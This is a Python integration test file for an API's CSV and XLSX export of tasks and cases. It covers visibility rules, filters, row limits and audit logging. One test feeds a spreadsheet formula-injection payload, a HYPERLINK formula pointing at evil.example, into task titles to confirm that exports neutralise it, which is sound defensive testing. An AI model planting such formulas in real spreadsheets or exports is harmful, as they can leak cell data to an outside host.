"""Lists as files: what one may see and no more, no text ever a formula, and noted who took it out."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import httpx
import openpyxl
import pytest
import sqlalchemy as sa

from api.app import create_app
from cases.exports import Exports
from schemas.descriptors import FacetType
from store.tables import events
from tests.integration.api.house import CLAIM, House, case, document

TASKS, CASES = "/api/v1/tasks/export", "/api/v1/cases/export"


def rows_of(answer: httpx.Response) -> list[dict[str, Any]]:
    """The rows of a file by their heading, whatever kind of file it is."""
    assert answer.status_code == 200, answer.text
    if answer.headers["content-type"].startswith("text/csv"):
        return list(csv.DictReader(io.StringIO(answer.text, newline="")))
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    head, *rows = book.worksheets[0].iter_rows(values_only=True)
    book.close()
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]


async def trail(house: House) -> list[dict[str, Any]]:
    async with house.services.store.system_reading() as sx:
        query = sa.select(events).where(events.c.kind == "list.exported").order_by(events.c.id)
        return [dict(row) for row in (await sx.connection.execute(query)).mappings()]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
async def test_a_list_of_tasks_leaves_as_a_file_with_types_and_times(
    house: House, ada: httpx.AsyncClient, portal: httpx.AsyncClient, form: str
) -> None:
    facets = {"amount": FacetType.NUMBER, "city": FacetType.TEXT}
    async with house.services.store.transaction("default") as tx:
        await tx.processes.put(CLAIM.model_copy(update={"facets": facets}), house.clock())
    started = await case(portal)
    money = {"amount": "-120.50", "currency": "EUR"}
    first = await house.open_task(started, facets={"amount": money, "city": "Köln"})
    await house.open_task(started, title="Look at it again", due=None)
    await ada.post(f"/api/v1/tasks/{first}/claim", json={"version": 1})
    answer = await ada.get(TASKS, params={"format": form})
    assert answer.headers["content-disposition"] == f'attachment; filename="tasks-2026-03-02.{form}"'
    rows = {row["id"]: row for row in rows_of(answer)}
    assert len(rows) == 2
    row = rows[str(first)]
    assert (row["owner"], row["status"], row["city"]) == ("ada", "reserved", "Köln")
    assert row["created_at"] == "2026-03-02T09:00:00Z"
    assert row["amount.currency"] == "EUR"
    assert float(row["amount"]) == -120.5
    typed = {"csv": (str, "false"), "xlsx": (float, False)}[form]
    assert (type(row["amount"]), row["escalated"]) == typed
    assert [
        each["title"] for each in rows_of(await ada.get(TASKS, params={"format": form, "view": "mine"}))
    ] == ["Assess the damage"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "  =", "\uff1d", "\u00a0\ufeff@"])
async def test_no_text_is_taken_for_a_formula(
    house: House, ada: httpx.AsyncClient, portal: httpx.AsyncClient, start: str
) -> None:
    bad = f'{start}HYPERLINK("http://evil.example/"&A1,"click")'
    await house.open_task(await case(portal), title=bad)
    [row] = rows_of(await ada.get(TASKS))
    assert row["title"] == f"'{bad}"
    answer = await ada.get(TASKS, params={"format": "xlsx"})
    cells = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
    [title] = [cell for cell in cells[2] if cells.cell(1, cell.column).value == "title"]
    assert title.data_type == "s"
    assert "HYPERLINK" in str(title.value)


async def test_everybody_takes_out_what_they_may_see_and_no_more(
    house: House, ada: httpx.AsyncClient, portal: httpx.AsyncClient
) -> None:
    task = await house.open_task(await case(portal))
    clara, stranger, lead = [await house.client(name) for name in ("clara", "stranger", "lee")]
    seen = {name: rows_of(await each.get(TASKS)) for name, each in (("ada", ada), ("lee", lead))}
    assert [[row["id"] for row in rows] for rows in seen.values()] == [[str(task)], [str(task)]]
    assert rows_of(await clara.get(TASKS)) == []
    assert rows_of(await stranger.get(TASKS, params={"view": "all"})) == []
    assert (await clara.get(TASKS, params={"team": "adjusters"})).status_code == 403
    await case(ada)
    assert len(rows_of(await ada.get(CASES))) == 2
    assert len(rows_of(await portal.get(CASES))) == 1
    assert rows_of(await stranger.get(CASES)) == []


async def test_cases_leave_with_the_filters_of_their_list(house: House, portal: httpx.AsyncClient) -> None:
    await case(portal)
    body = {"process": "household_claim", "documents": [await document(portal)], "reference": "=1+1"}
    wanted = (await portal.post("/api/v1/cases", json=body)).json()
    [row] = rows_of(await portal.get(CASES, params={"reference": "=1+1", "format": "xlsx"}))
    assert (row["id"], row["number"], row["reference"]) == (wanted["id"], wanted["number"], "=1+1")
    assert rows_of(await portal.get(CASES, params={"status": "completed"})) == []


async def test_the_trail_says_who_took_out_what_and_how_much(
    house: House, ada: httpx.AsyncClient, portal: httpx.AsyncClient
) -> None:
    await house.open_task(await case(portal))
    me = (await ada.get("/api/v1/me")).json()["id"]
    await ada.get(TASKS, params={"format": "xlsx", "status": "ready"})
    await portal.get(CASES)
    tasks, cases = await trail(house)
    assert str(tasks["actor"]) == me
    assert tasks["payload"]["after"] == {
        "what": "tasks", "format": "xlsx", "rows": 1, "filter": {"status": "ready"}
    }  # fmt: skip
    assert cases["payload"]["after"] == {"what": "cases", "format": "csv", "rows": 1, "filter": {}}
    assert tasks["at"].astimezone(UTC) == datetime(2026, 3, 2, 9, tzinfo=UTC)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
async def test_too_many_rows_are_refused_and_nothing_is_noted(
    house: House, portal: httpx.AsyncClient, form: str
) -> None:
    started = await case(portal)
    for _ in range(3):
        await house.open_task(started)
    given = house.services
    services = replace(given, exports=Exports(given.store, given.worklist, given.cases, most=2))
    small = House(create_app(services), services, house.clock, house.stack, house.tokens)
    refused = await (await small.client("ada")).get(TASKS, params={"format": form})
    assert (refused.status_code, refused.headers["content-type"]) == (422, "application/problem+json")
    assert "more than 2 rows" in refused.json()["detail"]
    assert await trail(house) == []
    assert len(rows_of(await portal.get(CASES))) == 1


@pytest.mark.parametrize("query", [{"format": "pdf"}, {"status": "lost"}, {"view": "theirs"}])
async def test_what_is_no_filter_is_refused(ada: httpx.AsyncClient, query: dict[str, str]) -> None:
    assert (await ada.get(TASKS, params=query)).status_code == 422
